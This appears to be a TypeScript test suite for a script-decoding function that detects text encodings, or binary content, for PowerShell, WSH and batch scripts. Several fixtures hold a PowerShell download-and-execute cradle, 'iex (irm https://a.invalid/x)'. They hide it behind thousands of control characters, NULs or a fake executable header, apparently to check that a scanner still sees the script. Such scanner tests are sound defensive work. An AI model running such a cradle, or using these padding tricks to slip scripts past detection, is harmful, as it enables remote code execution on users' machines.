/** Bytes become text as the script's host would read them. */

import assert from 'node:assert/strict';
import { decodeScript } from '../../../src/scripts/decode';
import type { ScriptKind } from '../../../src/scripts/kinds';

const bytes = (...values: number[]): Uint8Array => Uint8Array.from(values);
const join = (...parts: Uint8Array[]): Uint8Array => new Uint8Array(Buffer.concat(parts));
const le = (text: string): Uint8Array => Buffer.from(text, 'utf16le');
const be = (text: string): Uint8Array => Buffer.from(text, 'utf16le').swap16();
const utf8 = (text: string): Uint8Array => Buffer.from(text, 'utf8');

interface Row {
  readonly title: string;
  readonly input: Uint8Array;
  readonly expected: readonly [text: string, encoding: string, bom: boolean] | 'binary';
  readonly kind?: ScriptKind;
  readonly codePage?: number;
}

/** As a program begins: "MZ", and where its header is. */
const program = join(utf8('MZ'), bytes(0x90, 0, 3, 0, 0, 0, 4, 0, 0, 0, 0xff, 0xff, 0, 0));
const cradle = 'iex (irm https://a.invalid/x)\r\n';
/** The cradle after a comment full of something. */
const hidden = (filling: string): string => `<#${filling.repeat(4000)}#>${cradle}`;

const script = 'Write-Host "Grüße, 你好 😀"\r\n';
const rows: readonly Row[] = [
  { title: 'empty', input: bytes(), expected: ['', 'utf-8', false] },
  { title: 'ASCII', input: utf8('ls'), expected: ['ls', 'utf-8', false] },
  { title: 'UTF-8', input: utf8(script), expected: [script, 'utf-8', false] },
  {
    title: 'UTF-8 with mark',
    input: join(bytes(0xef, 0xbb, 0xbf), utf8(script)),
    expected: [script, 'utf-8', true],
  },
  { title: 'a mark alone', input: bytes(0xef, 0xbb, 0xbf), expected: ['', 'utf-8', true] },
  {
    title: 'UTF-8 with mark and an invalid byte',
    input: join(bytes(0xef, 0xbb, 0xbf, 0x61, 0xff)),
    expected: ['a\uFFFD', 'utf-8', true],
  },
  {
    title: 'UTF-16LE with mark',
    input: join(bytes(0xff, 0xfe), le(script)),
    expected: [script, 'utf-16le', true],
  },
  {
    title: 'UTF-16BE with mark',
    input: join(bytes(0xfe, 0xff), be(script)),
    expected: [script, 'utf-16be', true],
  },
  { title: 'UTF-16LE without', input: le(script), expected: [script, 'utf-16le', false] },
  { title: 'UTF-16BE without', input: be(script), expected: [script, 'utf-16be', false] },
  {
    title: 'UTF-16LE, odd last byte',
    input: join(le('ls'), bytes(0x41)),
    expected: ['ls', 'utf-16le', false],
  },
  {
    title: 'lone surrogates in UTF-16',
    input: join(bytes(0xff, 0xfe), le('a\uD800b\uDC00')),
    expected: ['a\uD800b\uDC00', 'utf-16le', true],
  },
  {
    title: 'UTF-32LE, PowerShell',
    input: bytes(0xff, 0xfe, 0, 0, 0x61, 0, 0, 0, 0x00, 0xf6, 0x01, 0),
    expected: ['a😀', 'utf-32le', true],
  },
  {
    title: 'UTF-32BE, PowerShell',
    input: bytes(0, 0, 0xfe, 0xff, 0, 0, 0, 0x61),
    expected: ['a', 'utf-32be', true],
  },
  {
    title: 'FF FE 00 00 is UTF-16 to WSH',
    input: bytes(0xff, 0xfe, 0, 0, 0x61, 0, 0, 0),
    kind: 'vbscript',
    expected: ['\0a\0', 'utf-16le', true],
  },
  {
    title: 'ANSI, code page 1252',
    input: bytes(0x22, 0xe9, 0x20, 0x80, 0x93, 0x22),
    expected: ['"é €“"', 'windows-1252', false],
  },
  {
    title: 'ANSI, code page 1251',
    input: bytes(0xcf, 0xf0, 0xe8),
    codePage: 1251,
    expected: ['При', 'windows-1251', false],
  },
  {
    title: 'ANSI, code page 932',
    input: bytes(0x93, 0xfa),
    codePage: 932,
    expected: ['日', 'shift_jis', false],
  },
  {
    title: 'ANSI, unknown code page',
    input: bytes(0x41, 0xe9),
    codePage: 4711,
    expected: ['Aé', 'windows-1252', false],
  },
  {
    title: 'invalid UTF-8 keeps its ASCII',
    input: join(utf8('Write-Host 1 # '), bytes(0xff, 0xc0, 0x80)),
    expected: ['Write-Host 1 # ÿÀ€', 'windows-1252', false],
  },
  {
    title: 'a single NUL hides no script',
    input: utf8('Write-Host\0 1'),
    expected: ['Write-Host\0 1', 'utf-8', false],
  },
  { title: 'NUL bytes', input: new Uint8Array(64), expected: 'binary' },
  { title: 'a program', input: program, expected: 'binary' },
  { title: 'mostly control characters', input: bytes(1, 2, 3, 4, 0x61, 0x62, 5, 6), expected: 'binary' },
  {
    title: 'a script behind control characters',
    input: utf8(hidden('\x01')),
    expected: [hidden('\x01'), 'utf-8', false],
  },
  {
    title: 'a script behind NULs',
    input: utf8(hidden('\0')),
    expected: [hidden('\0'), 'utf-8', false],
  },
  {
    title: 'a script behind control characters, not UTF-8',
    input: join(utf8(hidden('\x01')), bytes(0xe9)),
    expected: [`${hidden('\x01')}é`, 'windows-1252', false],
  },
  {
    title: 'a script behind more than is sampled',
    input: utf8(`<#${'\x01'.repeat(200_000)}#>${cradle}`),
    expected: [`<#${'\x01'.repeat(200_000)}#>${cradle}`, 'utf-8', false],
  },
  {
    title: 'a script that begins as a program does',
    input: join(program, utf8(`\n${cradle}`)),
    expected: [`MZ\x90\0\x03\0\0\0\x04\0\0\0ÿÿ\0\0\n${cradle}`, 'windows-1252', false],
  },
  {
    title: 'a script behind what looks like UTF-16',
    input: utf8(hidden('a\0')),
    expected: [hidden('a\0'), 'utf-8', false],
  },
  {
    title: 'the same for WSH, which knows UTF-16 without a mark',
    input: utf8(`/*${'a\0'.repeat(4000)}*/${'WScript.Echo(1);'.repeat(4)}`),
    kind: 'jscript',
    expected: [`/*${'a\0'.repeat(4000)}*/${'WScript.Echo(1);'.repeat(4)}`, 'utf-8', false],
  },
  {
    title: 'UTF-16LE without a mark, control characters in it',
    input: le(hidden('\x01')),
    expected: [hidden('\x01'), 'utf-16le', false],
  },
  {
    title: 'UTF-16LE without a mark, NULs in it',
    input: le(hidden('\0')),
    expected: [hidden('\0'), 'utf-16le', false],
  },
  {
    title: 'UTF-16LE without a mark, hiragana for WSH',
    input: le(`// ${'ありがとう'.repeat(2)}\nWScript.Echo(1);`),
    kind: 'jscript',
    expected: [`// ${'ありがとう'.repeat(2)}\nWScript.Echo(1);`, 'utf-16le', false],
  },
  { title: 'small numbers of two bytes', input: bytes(1, 0, 2, 0, 3, 0, 4, 0, 1, 0), expected: 'binary' },
  {
    title: 'text with colours and end of file',
    input: utf8('echo \x1b[31mred\x1a'),
    kind: 'batch',
    expected: ['echo \x1b[31mred\x1a', 'utf-8', false],
  },
];

describe('decodeScript', () => {
  for (const { title, input, expected, kind, codePage } of rows) {
    it(title, () => {
      const decoded = decodeScript(input, {
        kind: kind ?? 'powershell',
        ...(codePage === undefined ? {} : { ansiCodePage: codePage }),
      });
      assert.deepEqual(
        decoded.binary === true ? 'binary' : [decoded.text, decoded.encoding, decoded.bom],
        expected,
      );
    });
  }

  it('does not change the bytes it was given', () => {
    const input = be(script);
    const before = Buffer.from(input);
    decodeScript(input, { kind: 'powershell' });
    assert.deepEqual(Buffer.from(input), before);
  });
});
